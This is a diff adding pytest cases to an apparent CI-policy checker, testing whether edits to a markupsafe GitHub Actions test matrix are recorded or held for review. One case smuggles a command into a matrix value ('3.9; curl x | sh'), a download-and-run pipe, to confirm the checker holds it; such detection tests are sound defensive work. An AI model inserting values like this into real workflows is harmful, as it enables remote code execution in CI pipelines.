@@ -220,3 +220,57 @@ def test_pre_commit_config_is_a_build_hook_only_when_a_check_runs_pre_commit(
     else:
         assert code == 11
         assert held in found["build-hook-changed"][0]
+
+
+# pallets/markupsafe 0c422e10b1e1 (drop Python 3.9): one matrix entry removed from
+# .github/workflows/tests.yaml.
+_TESTS_YAML = (
+    b"name: Tests\non:\n  pull_request:\n  push:\n    branches: [main, stable]\njobs:\n"
+    b"  tests:\n    runs-on: ${{ matrix.os || 'ubuntu-latest' }}\n    strategy:\n"
+    b"      matrix:\n        include:\n          - {python: '3.13'}\n"
+    b"          - {name: Windows, python: '3.13', os: windows-latest}\n"
+    b"          - {python: '3.10'}\n          - {python: '3.9'}\n    steps:\n"
+    b"      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n"
+    b"      - run: uv run --locked tox run -e py${{ matrix.python }}\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("head", "held"),
+    [
+        pytest.param(_TESTS_YAML.replace(b"          - {python: '3.9'}\n", b""), False, id="drop"),
+        pytest.param(
+            _TESTS_YAML.replace(b"'3.10'}", b"'3.10'}\n          - {python: '3.14'}"),
+            False,
+            id="add",
+        ),
+        pytest.param(
+            _TESTS_YAML.replace(b"{python: '3.9'}", b"{python: '3.9', os: self-hosted}"),
+            True,
+            id="self-hosted-runner",
+        ),
+        pytest.param(
+            _TESTS_YAML.replace(b"{python: '3.9'}", b"{python: '3.9; curl x | sh'}"),
+            True,
+            id="value-that-injects",
+        ),
+        pytest.param(
+            _TESTS_YAML.replace(b"          - {python: '3.9'}\n", b"").replace(
+                b"tox run", b"tox run --skip"
+            ),
+            True,
+            id="matrix-and-a-step",
+        ),
+    ],
+)
+def test_a_workflow_matrix_change_is_recorded_not_held(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], head: bytes, held: bool
+) -> None:
+    base = {
+        b".github/proofgate.yml": _config("pytest"),
+        b".github/workflows/tests.yaml": _TESTS_YAML,
+    }
+    code, found = _policy(tmp_path, capsys, base, {b".github/workflows/tests.yaml": head})
+    assert ("ci-workflow-changed" in found) is held, found
+    assert ("ci-matrix-changed" in found) is not held
+    assert code == (11 if held else 0)
